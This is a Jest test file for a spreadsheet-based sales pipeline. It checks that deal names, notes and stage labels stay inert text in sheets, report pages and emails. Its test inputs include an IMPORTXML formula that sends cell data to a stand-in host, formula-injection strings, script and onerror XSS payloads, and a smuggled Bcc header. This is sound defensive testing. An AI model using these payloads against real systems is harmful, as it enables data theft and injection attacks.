import { expect, test } from '@jest/globals';
import type { Host } from '../../preview/google/host';
import { ask } from '../support/standIn';
import {
  aPipeline,
  at,
  dealRows,
  does,
  idOf,
  letter,
  newDeal,
  QUALIFIED,
  sweeps,
  types,
} from './desk';

/** Names that a spreadsheet could run, a mail could show as a page, or a header could split. */
const NAMES = [
  '=IMPORTXML("http://x.example/?"&A1,"//a")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><b>bold</b>',
  'Bcc: everyone@example.com\nSubject: hello',
] as const;

/** Cells that hold a formula, anywhere in the workbook. */
function formulas(host: Host): readonly string[] {
  return host.book.sheets.flatMap((sheet) => {
    const found: string[] = [];
    for (let column = 1; column <= sheet.lastColumn; column++) {
      for (let row = 1; row <= sheet.lastRow; row++) {
        const formula = sheet.formulas.reader(column)?.(row);
        if (formula !== undefined) found.push(`${sheet.name}: ${formula}`);
      }
    }
    return found;
  });
}

test.each(NAMES)('%s in every free cell stays the text it is: in sheet, page and mail', (name) => {
  const host = aPipeline();
  newDeal(host, 'Mill', { ...QUALIFIED, Owner: 'Ann', 'Close date': '2026-01-15' });
  does(host, {
    edit: { tab: 'Team', range: 'A3:C3', values: [['Ann', 'ann@example.com', 'Rep']] },
  });
  const id = idOf(host, 'Mill');
  const facts = { deal: name, customer: name, nextStep: name, Pain: name, product: name };
  expect(ask(host, 'saveFacts', { id, facts })).toMatchObject({ ok: true });
  ask(host, 'logActivity', { id, kind: name, note: name });
  ask(host, 'moveDeals', { ids: [id], to: 'lost', reason: name });
  ask(host, 'moveDeals', { ids: [id], to: 'needs-analysis' });
  const [row] = dealRows(host);
  expect(row).toMatchObject({ Deal: name, Customer: name, 'Next step': name, Pain: name });
  sweeps(host);
  does(host, { menu: 'refreshReports' });
  expect(formulas(host)).toEqual([]);

  // Its close date is past: the report is about it.
  does(host, { menu: 'sendStallReport' });
  expect(host.mails.length).toBeGreaterThan(0);
  for (const mail of host.mails) {
    expect(mail.html).not.toMatch(/<script>alert|<img src=x|<b>bold/);
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(mail.to).not.toContain('everyone');
    expect(mail.bcc).toBe('');
  }
  expect(formulas(host)).toEqual([]);
});

test('a stage called like a formula or a tag is a stage like any other', () => {
  const host = aPipeline();
  const sheet = host.names().tab('Stages');
  const { column } = host.names().column(sheet, 'Stage');
  does(host, {
    apiWrite: { tab: 'Stages', range: `${letter(column)}3`, values: [['<b>=1+1</b>']] },
  });
  sweeps(host);
  newDeal(host, 'Mill', QUALIFIED);
  does(host, {
    edit: { tab: 'Deals', range: at(host, 'Stage', 2), values: [['<b>=1+1</b>']] },
  });
  types(host, 'Mill', { Customer: 'Northwind' });
  sweeps(host);
  does(host, { menu: 'refreshReports' });
  expect(dealRows(host)).toMatchObject([{ Stage: '<b>=1+1</b>', 'Accepted stage': '<b>=1+1</b>' }]);
  expect(formulas(host)).toEqual([]);
});
